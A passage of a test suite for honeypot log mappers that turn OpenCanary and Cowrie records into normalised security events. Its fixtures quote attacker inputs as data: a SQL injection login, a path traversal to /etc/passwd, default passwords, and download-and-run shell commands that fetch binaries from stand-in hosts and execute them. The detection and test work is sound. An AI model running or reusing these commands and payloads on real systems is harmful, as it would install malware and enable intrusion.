import { describe, expect, test } from "bun:test"
import { createHash, createHmac } from "node:crypto"
import fc from "fast-check"
import { EVENT_TYPES } from "../../src/domain/eventTypes.ts"
import {
  COWRIE_EVENTIDS,
  type CowrieSession,
  commandTags,
  cowrieSessionsToLookUp,
  mapCowrieBatch,
  mapCowrie as mapCowrieKeyed,
} from "../../src/ingest/formats/cowrie.ts"
import type { MapResult, NativeEventInput } from "../../src/ingest/formats/native.ts"
import {
  camelCaseKey,
  canonicalJson,
  isCredentialKey,
  isDefaultCredential,
  lineId,
  lineIdKey,
  normalizeIp,
  parseLogTime,
  parsePort,
} from "../../src/ingest/formats/native.ts"
import { mapOpenCanary as mapOpenCanaryKeyed, OPENCANARY_LOGTYPES } from "../../src/ingest/formats/opencanary.ts"
import { IPTABLES_KV } from "../support/ingest.ts"

// Two organizations' fingerprint keys (D19) and the line-id keys derived from them.
const FINGERPRINT_KEY_A = new Uint8Array(32).fill(0xa1)
const FINGERPRINT_KEY_B = new Uint8Array(32).fill(0xb2)
const KEY_A = lineIdKey(FINGERPRINT_KEY_A)
const KEY_B = lineIdKey(FINGERPRINT_KEY_B)
const mapOpenCanary = (line: unknown) => mapOpenCanaryKeyed(line, KEY_A)
const mapCowrie = (line: unknown, session?: CowrieSession) => mapCowrieKeyed(line, KEY_A, session)
const sha256Hex = (s: string) => createHash("sha256").update(s, "utf8").digest("hex")

const expectMapped = (result: MapResult): NativeEventInput => {
  if (result._tag !== "Mapped") throw new Error(`expected Mapped, got Rejected: ${result.reason}`)
  return result.event
}

const expectRejected = (result: MapResult): string => {
  if (result._tag !== "Rejected") throw new Error(`expected Rejected, got ${JSON.stringify(result)}`)
  expect(result.reason.length).toBeGreaterThan(0)
  return result.reason
}

const SCALARS_ONLY = (input: Record<string, unknown>): boolean =>
  Object.values(input).every((v) => ["string", "number", "boolean"].includes(typeof v))
/** D20: only username and password-like members may keep a non-scalar (the ingest turns it into its JSON text). */
const SCALARS_OR_CREDENTIALS = (input: Record<string, unknown>): boolean =>
  Object.entries(input).every(([k, v]) => ["string", "number", "boolean"].includes(typeof v) || isCredentialKey(k))

// ---------------------------------------------------------------------------------------------------------------------
// OpenCanary: lines as opencanary/logger.py writes them (json.dumps(sort_keys=True) of the module's logdata plus the
// fields added by sanitizeLog: node_id, local_time, utc_time, local_time_adjusted; src_port -1 when unknown).

const OC_TIME = "2026-11-21 15:57:42.053123"
const OC_TIME_ISO = "2026-11-21T15:57:42.053Z"

const ocLine = (logtype: number, logdata: Record<string, unknown>, extra: Record<string, unknown> = {}) => ({
  dst_host: "10.0.0.5",
  dst_port: -1,
  local_time: OC_TIME,
  local_time_adjusted: "2026-11-21 16:57:42.053201",
  logdata,
  logtype,
  node_id: "opencanary-1",
  src_host: "203.0.113.7",
  src_port: 51234,
  utc_time: OC_TIME,
  ...extra,
})

interface OcCase {
  readonly name: string
  readonly line: Record<string, unknown>
  readonly type: string
  readonly service: string
  readonly port: number
  readonly sourcePort?: number
  readonly attackerInput: Record<string, unknown>
  readonly tags: ReadonlyArray<string>
}

const OC_CASES: ReadonlyArray<OcCase> = [
  {
    name: "2000 LOG_FTP_LOGIN_ATTEMPT",
    line: ocLine(2000, { PASSWORD: "admin", USERNAME: "admin" }, { dst_port: 21 }),
    type: "ftp.login_attempt",
    service: "ftp",
    port: 21,
    attackerInput: { password: "admin", username: "admin" },
    tags: [], // D42: a refused login is password guessing, not "Valid Accounts: Default Accounts"
  },
  {
    name: "3000 LOG_HTTP_GET",
    line: ocLine(
      3000,
      {
        HOSTNAME: "10.0.0.5",
        PATH: "/index.html",
        SKIN: "nasLogin",
        USERAGENT: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0",
      },
      { dst_port: 80 },
    ),
    type: "http.request",
    service: "http",
    port: 80,
    attackerInput: {
      hostname: "10.0.0.5",
      path: "/index.html",
      skin: "nasLogin",
      userAgent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0",
    },
    tags: [],
  },
  {
    name: "3000 LOG_HTTP_GET with path traversal from a scanner",
    line: ocLine(
      3000,
      { HOSTNAME: "nas.corp", PATH: "/cgi-bin/%2e%2e/%2e%2e/etc/passwd", SKIN: "basicLogin", USERAGENT: "Nikto/2.5.0" },
      { dst_port: 8080 },
    ),
    type: "http.request",
    service: "http",
    port: 8080,
    attackerInput: {
      hostname: "nas.corp",
      path: "/cgi-bin/%2e%2e/%2e%2e/etc/passwd",
      skin: "basicLogin",
      userAgent: "Nikto/2.5.0",
    },
    tags: ["path-traversal", "scanner"],
  },
  {
    name: "3001 LOG_HTTP_POST_LOGIN_ATTEMPT with SQL injection",
    line: ocLine(
      3001,
      {
        HOSTNAME: "10.0.0.5",
        PASSWORD: "x",
        PATH: "/index.html",
        SKIN: "basicLogin",
        USERAGENT: "sqlmap/1.8.2#stable (https://sqlmap.org)",
        USERNAME: "admin' OR '1'='1",
      },
      { dst_port: 80 },
    ),
    type: "http.login_attempt",
    service: "http",
    port: 80,
    attackerInput: {
      hostname: "10.0.0.5",
      password: "x",
      path: "/index.html",
      skin: "basicLogin",
      userAgent: "sqlmap/1.8.2#stable (https://sqlmap.org)",
      username: "admin' OR '1'='1",
    },
    tags: ["sqli", "scanner"],
  },
  {
    name: "3001 LOG_HTTP_POST_LOGIN_ATTEMPT without a password field",
    line: ocLine(
      3001,
      {
        HOSTNAME: "10.0.0.5",
        PASSWORD: "<not supplied>",
        PATH: "/index.html",
        SKIN: "basicLogin",
        USERAGENT: "curl/8.5.0",
        USERNAME: "admin",
      },
      { dst_port: 80 },
    ),
    type: "http.login_attempt",
    service: "http",
    port: 80,
    attackerInput: {
      hostname: "10.0.0.5",
      path: "/index.html",
      skin: "basicLogin",
      userAgent: "curl/8.5.0",
      username: "admin",
    },
    tags: [],
  },
  {
    name: "4000 LOG_SSH_NEW_CONNECTION",
    line: ocLine(4000, { SESSION: "17" }, { dst_port: 22 }),
    type: "ssh.session",
    service: "ssh",
    port: 22,
    attackerInput: { session: "17" },
    tags: [],
  },
  {
    name: "4002 LOG_SSH_LOGIN_ATTEMPT",
    line: ocLine(
      4002,
      {
        LOCALVERSION: "SSH-2.0-OpenSSH_5.1p1 Debian-5",
        PASSWORD: "123456",
        REMOTEVERSION: "SSH-2.0-libssh_0.9.6",
        USERNAME: "root",
      },
      { dst_port: 22 },
    ),
    type: "ssh.login_attempt",
    service: "ssh",
    port: 22,
    attackerInput: {
      localVersion: "SSH-2.0-OpenSSH_5.1p1 Debian-5",
      password: "123456",
      remoteVersion: "SSH-2.0-libssh_0.9.6",
      username: "root",
    },
    tags: [],
  },
  {
    name: "5000 LOG_SMB_FILE_OPEN (samba audit, src_port '-1')",
    line: ocLine(
      5000,
      {
        AUDITACTION: "pread",
        DOMAIN: "CORP",
        FILENAME: "Finance/Q1 Budget.txt",
        LOCALNAME: "FILESRV01",
        REMOTENAME: "LAPTOP-7",
        SHARENAME: "Documents",
        SMBARCH: "Win10",
        SMBVER: "SMB3_11",
        STATUS: "ok",
        USER: "jdoe",
      },
      { src_host: "10.20.30.40", src_port: "-1", dst_port: 445 },
    ),
    type: "smb.file_open",
    service: "smb",
    port: 445,
    sourcePort: 0,
    attackerInput: {
      auditAction: "pread",
      domain: "CORP",
      fileName: "Finance/Q1 Budget.txt",
      localName: "FILESRV01",
      remoteName: "LAPTOP-7",
      shareName: "Documents",
      smbArch: "Win10",
      smbVersion: "SMB3_11",
      status: "ok",
      username: "jdoe",
    },
    tags: [],
  },
  ...(
    [
      [5001, "portscan.syn", { ...IPTABLES_KV, SYN: "" }],
      [5002, "portscan.nmap_os", { ...IPTABLES_KV, URG: "", PSH: "", SYN: "", FIN: "" }],
      [5003, "portscan.nmap_null", IPTABLES_KV],
      [5004, "portscan.nmap_xmas", { ...IPTABLES_KV, URG: "", PSH: "", FIN: "" }],
      [5005, "portscan.nmap_fin", { ...IPTABLES_KV, FIN: "" }],
    ] as const
  ).map(
    ([logtype, type, kv]): OcCase => ({
      name: `${logtype} port scan`,
      // the portscan module copies SPT/DPT from the kernel log as strings
      line: ocLine(logtype, kv, { src_port: "40111", dst_port: "3389" }),
      type,
      service: "portscan",
      port: 3389,
      sourcePort: 40111,
      attackerInput: Object.fromEntries(Object.entries(kv).map(([k, v]) => [k.toLowerCase(), v])),
      tags: [],
    }),
  ),
  {
    name: "6001 LOG_TELNET_LOGIN_ATTEMPT (Mirai default)",
    line: ocLine(6001, { PASSWORD: "xc3511", USERNAME: "root" }, { dst_port: 23 }),
    type: "telnet.login_attempt",
    service: "telnet",
    port: 23,
    attackerInput: { password: "xc3511", username: "root" },
    tags: [], // D42: a refused login is password guessing, not "Valid Accounts: Default Accounts"
  },
  {
    name: "8001 LOG_MYSQL_LOGIN_ATTEMPT without a password",
    line: ocLine(8001, { PASSWORD: null, USERNAME: "root" }, { dst_port: 3306 }),
    type: "mysql.login_attempt",
    service: "mysql",
    port: 3306,
    attackerInput: { username: "root" },
    tags: [], // D42: a refused login is password guessing, not "Valid Accounts: Default Accounts"
  },
  {
    name: "8001 LOG_MYSQL_LOGIN_ATTEMPT with a scrambled password",
    line: ocLine(8001, { PASSWORD: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b", USERNAME: "app" }, { dst_port: 3306 }),
    type: "mysql.login_attempt",
    service: "mysql",
    port: 3306,
    attackerInput: { password: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b", username: "app" },
    tags: [],
  },
  {
    name: "9001 LOG_MSSQL_LOGIN_SQLAUTH",
    line: ocLine(
      9001,
      {
        AppName: "sqlcmd",
        CltIntName: "ODBC",
        Database: "master",
        HostName: "WIN-ATTACK",
        Language: "",
        Password: "",
        ServerName: "10.0.0.5",
        UserName: "sa",
      },
      { dst_port: 1433 },
    ),
    type: "mssql.login_attempt",
    service: "mssql",
    port: 1433,
    attackerInput: {
      appName: "sqlcmd",
      cltIntName: "ODBC",
      database: "master",
      hostname: "WIN-ATTACK",
      language: "",
      password: "",
      serverName: "10.0.0.5",
      username: "sa",
    },
    tags: [],
  },
  {
    name: "9002 LOG_MSSQL_LOGIN_WINAUTH",
    line: ocLine(9002, { PASSWORD: "", USERNAME: "" }, { dst_port: 1433 }),
    type: "mssql.login_attempt",
    service: "mssql",
    port: 1433,
    attackerInput: { password: "", username: "" },
    tags: [],
  },
  {
    name: "12001 LOG_VNC with a common password",
    line: ocLine(
      12001,
      {
        "VNC Client Response": "5c2b0ad2f0a3e5a1a9d4c1be7f11c0de",
        "VNC Password": "password",
        "VNC Server Challenge": "0f1e2d3c4b5a69788796a5b4c3d2e1f0",
      },
      { dst_port: 5900 },
    ),
    type: "vnc.login_attempt",
    service: "vnc",
    port: 5900,
    attackerInput: {
      vncClientResponse: "5c2b0ad2f0a3e5a1a9d4c1be7f11c0de",
      password: "password",
      vncServerChallenge: "0f1e2d3c4b5a69788796a5b4c3d2e1f0",
    },
    tags: [],
  },
  {
    name: "12001 LOG_VNC with an unknown password",
    line: ocLine(
      12001,
      {
        "VNC Client Response": "aa2b0ad2f0a3e5a1a9d4c1be7f11c0de",
        "VNC Password": "<Password was not in the common list>",
        "VNC Server Challenge": "bb1e2d3c4b5a69788796a5b4c3d2e1f0",
      },
      { dst_port: 5900 },
    ),
    type: "vnc.login_attempt",
    service: "vnc",
    port: 5900,
    attackerInput: {
      vncClientResponse: "aa2b0ad2f0a3e5a1a9d4c1be7f11c0de",
      vncServerChallenge: "bb1e2d3c4b5a69788796a5b4c3d2e1f0",
    },
    tags: [],
  },
  {
    name: "14001 LOG_RDP",
    line: ocLine(14001, { USERNAME: "administrator" }, { dst_port: 3389 }),
    type: "rdp.login_attempt",
    service: "rdp",
    port: 3389,
    attackerInput: { username: "administrator" },
    tags: [],
  },
  {
    name: "17001 LOG_REDIS_COMMAND",
    line: ocLine(17001, { ARGS: "", CMD: "INFO" }, { dst_port: 6379 }),
    type: "redis.command",
    service: "redis",
    port: 6379,
    attackerInput: { args: "", command: "INFO" },
    tags: [],
  },
  {
    name: "17001 LOG_REDIS_COMMAND AUTH keeps the tried password under 'password' (D19 masks it)",
    line: ocLine(17001, { ARGS: "hunter2", CMD: "AUTH" }, { dst_port: 6379 }),
    type: "redis.command",
    service: "redis",
    port: 6379,
    attackerInput: { password: "hunter2", command: "AUTH" },
    tags: [],
  },
]

describe("OpenCanary mapper", () => {
  test.each(OC_CASES.map((c) => [c.name, c] as const))("maps %s", (_name, c) => {
    const event = expectMapped(mapOpenCanary(c.line))
    expect(event.type).toBe(c.type)
    expect(event.service).toBe(c.service)
    expect(event.port).toBe(c.port)
    expect(event.action).toBe(EVENT_TYPES.get(c.type)?.action as string)
    expect(event.time).toBe(OC_TIME_ISO)
    expect(event.sourceIp).toBe(c.line.src_host as string)
    expect(event.sourcePort).toBe(c.sourcePort ?? 51234)
    expect(event.attackerInput).toEqual(c.attackerInput)
    expect([...event.tags].sort()).toEqual([...c.tags].sort())
    expect(event.sensorEventId).toMatch(/^oc:k1:[0-9a-f]{64}$/)
    expect(event.severity).toBeUndefined()
    expect(event.confidence).toBeUndefined()
    expect(SCALARS_ONLY(event.attackerInput)).toBe(true)
  })

  test("every mapped logtype is covered by a fixture and maps to a known event type", () => {
    const covered = new Set(OC_CASES.map((c) => c.line.logtype))
    for (const [logtype, outcome] of OPENCANARY_LOGTYPES) {
      if (outcome.outcome !== "accepted") continue
      expect(EVENT_TYPES.has(outcome.type)).toBe(true)
      if ([2000, 3000, 3001, 4000, 4002, 5000, 5001, 6001, 8001, 9001, 12001, 14001, 17001].includes(logtype)) {
        expect(covered.has(logtype)).toBe(true)
      }
    }
  })

  test("one SSH connection is one event: 4001 merges its client version into the connection 4000 opened", () => {
    const open = mapOpenCanary(ocLine(4000, { SESSION: "17" }, { dst_port: 22, src_port: 40022 }))
    const version = mapOpenCanary(
      ocLine(
        4001,
        { LOCALVERSION: "SSH-2.0-OpenSSH_5.1p1 Debian-5", REMOTEVERSION: "SSH-2.0-Go" },
        { src_port: 40022 },
      ),
    )
    if (open._tag !== "Mapped" || version._tag !== "Merged") throw new Error(`${open._tag} ${version._tag}`)
    expect(open.cowrie?.session).toBe(version.merge.session)
    expect(open.cowrie?.teaches).toEqual({ protocol: "ssh", sourcePort: 40022, port: 22 })
    expect(version.merge.details).toEqual({ clientVersion: "SSH-2.0-Go" })
    // Another connection (another source port) is another session.
    const other = mapOpenCanary(ocLine(4001, { REMOTEVERSION: "SSH-2.0-Go" }, { src_port: 40023 }))
    expect(other._tag === "Merged" && other.merge.session).not.toBe(version.merge.session)
  })

  test("the logtype constants are opencanary/logger.py's", () => {
    expect(OPENCANARY_LOGTYPES.get(2000)).toEqual({ outcome: "accepted", type: "ftp.login_attempt" })
    expect(OPENCANARY_LOGTYPES.get(4002)).toEqual({ outcome: "accepted", type: "ssh.login_attempt" })
    expect(OPENCANARY_LOGTYPES.get(5000)).toEqual({ outcome: "accepted", type: "smb.file_open" })
    expect(OPENCANARY_LOGTYPES.get(6001)).toEqual({ outcome: "accepted", type: "telnet.login_attempt" })
    expect(OPENCANARY_LOGTYPES.get(9002)).toEqual({ outcome: "accepted", type: "mssql.login_attempt" })
    expect(OPENCANARY_LOGTYPES.get(12001)).toEqual({ outcome: "accepted", type: "vnc.login_attempt" })
    expect(OPENCANARY_LOGTYPES.get(14001)).toEqual({ outcome: "accepted", type: "rdp.login_attempt" })
    expect(OPENCANARY_LOGTYPES.get(17001)).toEqual({ outcome: "accepted", type: "redis.command" })
  })

  test.each([
    [1000, "LOG_BASE_BOOT"],
    [1001, "LOG_BASE_MSG"],
    [1004, "LOG_BASE_PING"],
  ] as const)("logtype %d is ignored with a reason naming it", (logtype, constant) => {
    const result = mapOpenCanary(ocLine(logtype, { msg: "Canary running!!!" }))
    if (result._tag !== "Ignored") throw new Error(`expected Ignored, got ${result._tag}`)
    expect(result.reason).toContain(String(logtype))
    expect(result.reason).toContain(constant)
  })

  test.each([
    [99, "decoy.activity"],
    [99000, "decoy.activity"],
    [7001, "httpproxy.login_attempt"],
    [11001, "ntp.monlist"],
  ] as const)("logtype %d is accepted (an unknown one as a generic event)", (logtype, type) => {
    expect(expectMapped(mapOpenCanary(ocLine(logtype, { msg: "Canary running!!!" }))).type).toBe(type)
  })

  test.each([
    ["2026-11-21 15:57:42.053123", "2026-11-21T15:57:42.053Z"],
    ["2026-11-21 15:57:42", "2026-11-21T15:57:42.000Z"],
    ["2026-11-21T15:57:42.053123Z", "2026-11-21T15:57:42.053Z"],
    ["2026-11-21T16:57:42.5+01:00", "2026-11-21T15:57:42.500Z"],
    ["2026-11-21T10:27:42.053-0530", "2026-11-21T15:57:42.053Z"],
    ["2024-02-29 00:00:00.000001", "2024-02-29T00:00:00.000Z"],
  ])("utc_time %s is read as %s", (utcTime, iso) => {
    expect(expectMapped(mapOpenCanary(ocLine(4000, {}, { utc_time: utcTime }))).time).toBe(iso)
  })

  test.each([
    ["missing", undefined],
    ["empty", ""],
    ["a number", 1763740662],
    ["words", "yesterday"],
    ["month 13", "2026-13-01 00:00:00"],
    ["30 February", "2026-02-30 10:00:00"],
    ["hour 24", "2026-11-21 24:00:00"],
    ["offset +25:00", "2026-11-21T15:57:42+25:00"],
    ["year 0001", "0001-01-01 00:00:00"],
  ])("utc_time %s is rejected", (_name, utcTime) => {
    const line: Record<string, unknown> = ocLine(4002, { USERNAME: "root" })
    if (utcTime === undefined) delete line.utc_time
    else line.utc_time = utcTime
    expect(expectRejected(mapOpenCanary(line))).toContain("utc_time")
  })

  test.each([
    ["missing", undefined],
    ["empty (OpenCanary's default)", ""],
    ["a host name", "attacker.example"],
    ["a number", 3405803783],
    ["an IPv6 zone id", "fe80::1%eth0"],
  ])("src_host %s is rejected", (_name, srcHost) => {
    const line: Record<string, unknown> = ocLine(4002, { USERNAME: "root" })
    if (srcHost === undefined) delete line.src_host
    else line.src_host = srcHost
    expect(expectRejected(mapOpenCanary(line))).toContain("src_host")
  })

  test("an IPv4-mapped IPv6 src_host is written as IPv4, IPv6 is lowercased", () => {
    expect(expectMapped(mapOpenCanary(ocLine(4000, {}, { src_host: "::ffff:203.0.113.7" }))).sourceIp).toBe(
      "203.0.113.7",
    )
    expect(expectMapped(mapOpenCanary(ocLine(4000, {}, { src_host: "2001:DB8::7" }))).sourceIp).toBe("2001:db8::7")
  })

  test("a missing dst_port falls back to the type's default port, a missing src_port to 0", () => {
    const line: Record<string, unknown> = ocLine(4002, { USERNAME: "root", PASSWORD: "x" })
    delete line.dst_port
    delete line.src_port
    const event = expectMapped(mapOpenCanary(line))
    expect(event.port).toBe(22)
    expect(event.sourcePort).toBe(0)
  })

  test("bad ports and a non-object logdata are rejected", () => {
    expect(expectRejected(mapOpenCanary(ocLine(4002, {}, { src_port: "abc" })))).toContain("src_port")
    expect(expectRejected(mapOpenCanary(ocLine(4002, {}, { src_port: 70000 })))).toContain("src_port")
    expect(expectRejected(mapOpenCanary(ocLine(4002, {}, { dst_port: 22.5 })))).toContain("dst_port")
    expect(expectRejected(mapOpenCanary(ocLine(4002, {}, { logdata: "USERNAME=root" })))).toContain("logdata")
    expect(expectRejected(mapOpenCanary(ocLine(4002, {}, { logdata: ["root"] })))).toContain("logdata")
  })

  test("only strings, numbers and booleans are copied into attackerInput (any JSON but null under username and password-like names); unsafe keys are dropped", () => {
    const logdata = JSON.parse(
      '{"USERNAME":"root","PASSWORD":{"nested":"x"},"PATH":["a"],"N":3,"B":true,"Z":null,"__proto__":"polluted","constructor":"c"}',
    ) as Record<string, unknown>
    const event = expectMapped(mapOpenCanary(ocLine(4002, logdata)))
    expect(event.attackerInput).toEqual({
      username: "root",
      password: { nested: "x" },
      n: 3,
      b: true,
      proto: "polluted",
    })
    expect(Object.getPrototypeOf(event.attackerInput)).toBe(Object.prototype)
  })

  test("a logtype given as a digit string is read", () => {
    expect(expectMapped(mapOpenCanary(ocLine(4002, { USERNAME: "root" }, { logtype: "4002" }))).type).toBe(
      "ssh.login_attempt",
    )
  })
})

// ---------------------------------------------------------------------------------------------------------------------
// Cowrie: lines as output_jsonlog writes them (eventid, message, sensor, timestamp, src_ip, session, and the event's
// own attributes; src_port/dst_ip/dst_port/protocol on cowrie.session.connect only).

const SESSION = "6d7c0e1b2a3f"
const COWRIE_TIME = "2026-11-21T15:57:42.053123Z"

const cowrieLine = (eventid: string, fields: Record<string, unknown>, message: string) => ({
  eventid,
  ...fields,
  message,
  sensor: "cowrie-dmz",
  timestamp: COWRIE_TIME,
  src_ip: "203.0.113.7",
  session: SESSION,
})

const SHASUM = "a3f5c2e8d1b7409f6e2c8d5a7b3f1e9c0d4b6a8f2e7c1d5b9a3f6e0c8d2b4a7f"

interface CowrieCase {
  readonly name: string
  readonly line: Record<string, unknown>
  readonly type: string
  readonly service: string
  readonly port: number
  readonly sourcePort: number
  readonly attackerInput: Record<string, unknown>
  readonly tags: ReadonlyArray<string>
}

const COWRIE_CASES: ReadonlyArray<CowrieCase> = [
  {
    name: "cowrie.session.connect over SSH",
    line: cowrieLine(
      "cowrie.session.connect",
      { src_port: 49822, dst_ip: "10.0.0.9", dst_port: 22, protocol: "ssh" },
      `New connection: 203.0.113.7:49822 (10.0.0.9:22) [session: ${SESSION}]`,
    ),
    type: "ssh.session",
    service: "ssh",
    port: 22,
    sourcePort: 49822,
    attackerInput: {},
    tags: [],
  },
  {
    name: "cowrie.session.connect over Telnet",
    line: cowrieLine(
      "cowrie.session.connect",
      { src_port: 38116, dst_ip: "10.0.0.9", dst_port: 2223, protocol: "telnet" },
      `New connection: 203.0.113.7:38116 (10.0.0.9:2223) [session: ${SESSION}]`,
    ),
    type: "telnet.session",
    service: "telnet",
    port: 2223,
    sourcePort: 38116,
    attackerInput: {},
    tags: [],
  },
  {
    name: "cowrie.login.failed",
    line: cowrieLine(
      "cowrie.login.failed",
      { username: "root", password: "123456" },
      "login attempt [root/123456] failed",
    ),
    type: "ssh.login_attempt",
    service: "ssh",
    port: 22,
    sourcePort: 0,
    attackerInput: { username: "root", password: "123456" },
    tags: [],
  },
  {
    name: "cowrie.login.failed over Telnet",
    line: cowrieLine(
      "cowrie.login.failed",
      { username: "admin", password: "admin", protocol: "telnet" },
      "login attempt [admin/admin] failed",
    ),
    type: "telnet.login_attempt",
    service: "telnet",
    port: 23,
    sourcePort: 0,
    attackerInput: { username: "admin", password: "admin" },
    tags: [], // D42: only a successful login with default credentials is T1078.001
  },
  {
    name: "cowrie.login.success",
    line: cowrieLine(
      "cowrie.login.success",
      { username: "root", password: "toor" },
      "login attempt [root/toor] succeeded",
    ),
    type: "ssh.login_success",
    service: "ssh",
    port: 22,
    sourcePort: 0,
    attackerInput: { username: "root", password: "toor" },
    tags: ["default-credentials"],
  },
  {
    name: "cowrie.command.input (system discovery)",
    line: cowrieLine(
      "cowrie.command.input",
      { input: "uname -a; cat /proc/cpuinfo" },
      "CMD: uname -a; cat /proc/cpuinfo",
    ),
    type: "ssh.command",
    service: "ssh",
    port: 22,
    sourcePort: 0,
    attackerInput: { command: "uname -a; cat /proc/cpuinfo" },
    tags: ["system-discovery"],
  },
  {
    name: "cowrie.command.input (download and run)",
    line: cowrieLine(
      "cowrie.command.input",
      { input: "cd /tmp && wget http://198.51.100.23/bins/x86 && chmod +x x86 && ./x86" },
      "CMD: cd /tmp && wget http://198.51.100.23/bins/x86 && chmod +x x86 && ./x86",
    ),
    type: "ssh.command",
    service: "ssh",
    port: 22,
    sourcePort: 0,
    attackerInput: { command: "cd /tmp && wget http://198.51.100.23/bins/x86 && chmod +x x86 && ./x86" },
    tags: ["malware-download"],
  },
  {
    name: "cowrie.session.file_download",
    line: cowrieLine(
      "cowrie.session.file_download",
      {
        url: "http://198.51.100.23/bins/x86",
        outfile: `var/lib/cowrie/downloads/${SHASUM}`,
        shasum: SHASUM,
        destfile: "",
      },
      `Downloaded URL (http://198.51.100.23/bins/x86) with SHA-256 ${SHASUM} to var/lib/cowrie/downloads/${SHASUM}`,
    ),
    type: "ssh.file_download",
    service: "ssh",
    port: 22,
    sourcePort: 0,
    attackerInput: { url: "http://198.51.100.23/bins/x86", shasum: SHASUM },
    tags: ["malware-download"],
  },
]

describe("Cowrie mapper", () => {
  test.each(COWRIE_CASES.map((c) => [c.name, c] as const))("maps %s", (_name, c) => {
    const event = expectMapped(mapCowrie(c.line))
    expect(event.type).toBe(c.type)
    expect(event.service).toBe(c.service)
    expect(event.port).toBe(c.port)
    expect(event.action).toBe(EVENT_TYPES.get(c.type)?.action as string)
    expect(event.time).toBe("2026-11-21T15:57:42.053Z")
    expect(event.sourceIp).toBe("203.0.113.7")
    expect(event.sourcePort).toBe(c.sourcePort)
    expect(event.attackerInput).toEqual(c.attackerInput)
    expect([...event.tags].sort()).toEqual([...c.tags].sort())
    expect(event.sensorEventId).toMatch(/^cw:k1:[0-9a-f]{64}$/)
    expect(SCALARS_ONLY(event.attackerInput)).toBe(true)
  })

  test("every supported eventid is covered by a fixture and maps to known event types", () => {
    const covered = new Set(COWRIE_CASES.map((c) => c.line.eventid))
    for (const [eventid, outcome] of COWRIE_EVENTIDS) {
      if (outcome.outcome !== "accepted") continue
      expect(EVENT_TYPES.has(`ssh.${outcome.action}`)).toBe(true)
      if (["session", "login_attempt", "login_success", "command", "file_download"].includes(outcome.action)) {
        expect(covered.has(eventid) || eventid !== "cowrie.command.failed").toBe(true)
        expect(EVENT_TYPES.has(`telnet.${outcome.action}`)).toBe(true)
      }
    }
  })

  test.each([
    ["cowrie.client.version", "Merged"],
    ["cowrie.client.kex", "Merged"],
    ["cowrie.client.size", "Merged"],
    ["cowrie.session.closed", "Merged"],
    ["cowrie.log.closed", "Ignored"],
    ["cowrie.direct-tcpip.request", "Mapped"],
    ["cowrie.session.params", "Ignored"],
    ["cowrie.some.future_eventid", "Mapped"],
  ])("eventid %s is never rejected (%s)", (eventid, tag) => {
    const got: string = mapCowrie(cowrieLine(eventid, { version: "SSH-2.0-Go" }, "Remote SSH version"))._tag
    expect(got).toBe(tag)
  })

  test.each([
    ["2026-11-21T15:57:42.053123Z", "2026-11-21T15:57:42.053Z"],
    ["2026-11-21T15:57:42.053123+0000", "2026-11-21T15:57:42.053Z"],
    ["2026-11-21T17:57:42.053123+02:00", "2026-11-21T15:57:42.053Z"],
  ])("timestamp %s is read as %s", (timestamp, iso) => {
    const line = { ...cowrieLine("cowrie.login.failed", { username: "a", password: "b" }, "m"), timestamp }
    expect(expectMapped(mapCowrie(line)).time).toBe(iso)
  })

  test("without timestamp the epoch-seconds time is used; a bad timestamp is rejected", () => {
    const line: Record<string, unknown> = cowrieLine("cowrie.login.failed", { username: "a", password: "b" }, "m")
    delete line.timestamp
    line.time = 1795276662.053123
    expect(expectMapped(mapCowrie(line)).time).toBe("2026-11-21T15:57:42.053Z")
    expect(expectRejected(mapCowrie({ ...line, timestamp: "2026-11-31T00:00:00Z" }))).toContain("timestamp")
    delete line.time
    expect(expectRejected(mapCowrie(line))).toContain("timestamp")
  })

  test("a missing or malformed session or src_ip is rejected", () => {
    const good = cowrieLine("cowrie.login.failed", { username: "a", password: "b" }, "m")
    expect(expectRejected(mapCowrie({ ...good, session: undefined }))).toContain("session")
    expect(expectRejected(mapCowrie({ ...good, session: "../../etc" }))).toContain("session")
    expect(expectRejected(mapCowrie({ ...good, session: 42 }))).toContain("session")
    expect(expectRejected(mapCowrie({ ...good, src_ip: "not-an-ip" }))).toContain("src_ip")
    expect(expectRejected(mapCowrie({ ...good, src_ip: null }))).toContain("src_ip")
    // D20: the quoted bad value is cleaned of control, invisible and bidi characters, and cut.
    const reason = expectRejected(mapCowrie({ ...good, session: `\u202e\u200bab\u0000c\u001b[2J${"x".repeat(5000)}` }))
    expect(reason).toStartWith('missing or invalid session: "abc[2Jxxx')
    for (const ch of ["\u202e", "\u200b", "\u0000", "\u001b"]) expect(reason).not.toContain(ch)
    expect(reason.length).toBeLessThan(120)
  })

  test("non-string attacker fields are not copied, except under username and password (their JSON text later)", () => {
    const event = expectMapped(
      mapCowrie(cowrieLine("cowrie.login.failed", { username: ["root"], password: { x: 1 } }, "m")),
    )
    expect(event.attackerInput).toEqual({ username: ["root"], password: { x: 1 } })
    const nulls = expectMapped(mapCowrie(cowrieLine("cowrie.login.failed", { username: null, password: null }, "m")))
    expect(nulls.attackerInput).toEqual({})
    const command = expectMapped(mapCowrie(cowrieLine("cowrie.command.input", { input: null }, "m")))
    expect(command.attackerInput).toEqual({})
  })

  test("command tags", () => {
    expect(commandTags("curl -s http://198.51.100.1/a.sh | sh")).toEqual(["malware-download"])
    expect(commandTags("tftp -g -r mips 198.51.100.1")).toEqual(["malware-download"])
    expect(commandTags("whoami")).toEqual(["system-discovery"])
    expect(commandTags("id")).toEqual(["system-discovery"])
    expect(commandTags("cat /etc/os-release")).toEqual(["system-discovery"])
    expect(commandTags("ls -la /tmp")).toEqual([])
    expect(commandTags("echo wget")).toEqual([])
    expect(commandTags("video --grid")).toEqual([])
  })
})

// ---------------------------------------------------------------------------------------------------------------------

describe("sensorEventId: a resent line is a duplicate", () => {
  test("the same OpenCanary line gives the same id, whatever its key order; another line another id", () => {
    const line = ocLine(4002, { PASSWORD: "123456", USERNAME: "root" })
    const reordered = JSON.parse(JSON.stringify(Object.fromEntries(Object.entries(line).reverse()))) as Record<
      string,
      unknown
    >
    const a = expectMapped(mapOpenCanary(line)).sensorEventId
    expect(expectMapped(mapOpenCanary(structuredClone(line))).sensorEventId).toBe(a)
    expect(expectMapped(mapOpenCanary(reordered)).sensorEventId).toBe(a)
    const other = ocLine(4002, { PASSWORD: "1234567", USERNAME: "root" })
